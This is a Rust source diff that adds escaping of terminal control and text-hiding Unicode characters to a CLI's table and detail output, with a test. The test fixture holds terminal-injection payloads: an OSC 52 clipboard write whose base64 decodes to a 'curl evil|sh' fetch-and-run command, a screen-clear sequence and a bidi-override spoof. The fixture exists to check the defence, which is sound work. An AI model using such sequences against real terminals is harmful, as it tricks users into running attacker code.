@@ -4,6 +4,13 @@
 //! Tables read the JSON by field name, with alternatives where the API's naming could vary,
 //! and print `-` for an absent field, so that a newer relay with more fields still prints.
 //! Time is a parameter (`now`, Unix seconds) so that "3 min ago" is testable.
+//!
+//! Tables and details go to a person's terminal, and their text is other people's: a session's
+//! command is whatever its user typed, a host name what an agent sent at registration. A
+//! terminal acts on escape sequences in it (repaint the screen, set the title, write the
+//! clipboard with OSC 52, hide the rest of a line), so every control character and every
+//! character that reorders or hides text is shown escaped (`\u{1b}`, `\n`), never written raw.
+//! `--json` output is JSON and escapes them itself.
 
 use serde_json::Value;
 
@@ -100,8 +107,8 @@ pub fn table(rows: &[&Value], columns: &[Column], now: i64) -> String {
 
 /// `key: value` lines of one object (`hatch sessions show`), keys aligned and sorted.
 pub fn details(obj: &Value, now: i64) -> String {
-    let Value::Object(map) = obj else { return format!("{obj}\n") };
-    let width = map.keys().map(|k| k.len()).max().unwrap_or(0);
+    let Value::Object(map) = obj else { return format!("{}\n", printable(&obj.to_string())) };
+    let width = map.keys().map(|k| printable(k).chars().count()).max().unwrap_or(0);
     let mut out = String::new();
     for (k, v) in map {
         let mut shown = text(v);
@@ -110,6 +117,7 @@ pub fn details(obj: &Value, now: i64) -> String {
         {
             shown = format!("{shown} ({ago})");
         }
+        let k = printable(k);
         out.push_str(&format!("{k:<width$}  {shown}\n"));
     }
     out
@@ -129,9 +137,11 @@ fn cell(row: &Value, column: &Column, now: i64) -> String {
         },
         Kind::Tags => match v {
             Value::Object(m) if m.is_empty() => "-".to_owned(),
-            Value::Object(m) => {
-                m.iter().map(|(k, v)| format!("{k}={}", text(v))).collect::<Vec<_>>().join(",")
-            }
+            Value::Object(m) => m
+                .iter()
+                .map(|(k, v)| format!("{}={}", printable(k), text(v)))
+                .collect::<Vec<_>>()
+                .join(","),
             other => text(other),
         },
     }
@@ -140,10 +150,35 @@ fn cell(row: &Value, column: &Column, now: i64) -> String {
 fn text(v: &Value) -> String {
     match v {
         Value::Null => "-".to_owned(),
-        Value::String(s) => s.clone(),
+        Value::String(s) => printable(s),
         Value::Array(a) => a.iter().map(text).collect::<Vec<_>>().join(" "),
-        other => other.to_string(),
+        // JSON text escapes C0 controls but not DEL or the C1 controls (U+009B is a CSI).
+        other => printable(&other.to_string()),
     }
+}
+
+/// `s` safe to write to a terminal: control characters (C0, DEL, C1) and the invisible
+/// characters that reorder or hide text (bidi overrides and isolates, zero-width characters,
+/// line and paragraph separators) escaped as `\n`, `\r`, `\t` or `\u{..}`; the rest as is.
+pub fn printable(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    for c in s.chars() {
+        match c {
+            '\n' => out.push_str("\\n"),
+            '\r' => out.push_str("\\r"),
+            '\t' => out.push_str("\\t"),
+            c if c.is_control() || hides_text(c) => out.extend(c.escape_unicode()),
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// Unicode format characters a terminal draws as nothing while they change what the text
+/// around them looks like.
+fn hides_text(c: char) -> bool {
+    matches!(c,
+        '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
 }
 
 /// Unix seconds of a timestamp given as RFC 3339 text or as a number of seconds.
@@ -240,6 +275,38 @@ mod tests {
             table(&rows, SESSION_COLUMNS, NOW),
             "SESSION  INSTANCE  STATE  MODE  RUN AS  OWNER  STARTED  REASON\n"
         );
+    }
+
+    #[test]
+    fn terminal_escapes_in_peer_text_are_shown_escaped_never_written_raw() {
+        // A user's command (OSC 52 writes the viewer's clipboard, CSI 2J clears the screen, a
+        // C1 CSI, a bidi override) and an agent's host name, as another person's
+        // `hatch sessions show` and `hatch instances` print them.
+        let session = json!({"session_id": "s-1",
+            "command": ["sh", "-c", "x\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}[2J\u{9b}31m\r\n"],
+            "run_as": "root\u{202e}toor", "bytes_in": 1});
+        let shown = details(&session, NOW);
+        assert_eq!(
+            shown,
+            "bytes_in    1\n\
+             command     sh -c x\\u{1b}]52;c;Y3VybCBldmlsfHNo\\u{7}\\u{1b}[2J\\u{9b}31m\\r\\n\n\
+             run_as      root\\u{202e}toor\n\
+             session_id  s-1\n"
+        );
+        let instances = json!([{"instance_id": "i-1", "hostname": "web\u{1b}[8m-1",
+            "tags": {"e\u{7f}nv": "pr\u{1b}od"}}]);
+        let table = table(&items(&instances, "instances"), INSTANCE_COLUMNS, NOW);
+        assert_eq!(
+            table,
+            "INSTANCE  HOSTNAME        STATUS  LAST SEEN  REGION  TAGS\n\
+             i-1       web\\u{1b}[8m-1  -       -          -       e\\u{7f}nv=pr\\u{1b}od\n"
+        );
+        for out in [&shown, &table] {
+            assert!(
+                !out.chars().any(|c| (c.is_control() && c != '\n') || hides_text(c)),
+                "{out:?}"
+            );
+        }
     }
 
     #[test]
